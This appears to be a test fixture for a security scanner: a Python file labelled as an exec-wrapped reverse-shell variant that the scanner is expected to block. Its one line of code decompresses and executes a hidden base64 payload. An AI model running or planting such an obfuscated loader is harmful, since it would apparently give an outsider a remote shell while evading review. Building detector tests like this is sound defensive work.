# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/mkfifo_netcat.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxFjsEKwjAYg+99ijBBFFy7bnoS9xR7ga38pcV2LW3nyYd3sqE5fQkk5IDBEPxTWx3ETEWNBYlelDIhG3KOM+tjSAV5mWIKinJm7M9cjc6dquRRa4jio9D3fe5nv5sb4w0x2Vlkg9qi7Y9yTWaFtul4w6Xs+A3XVej3QnXZXjyGtND5A+PUNus=')))
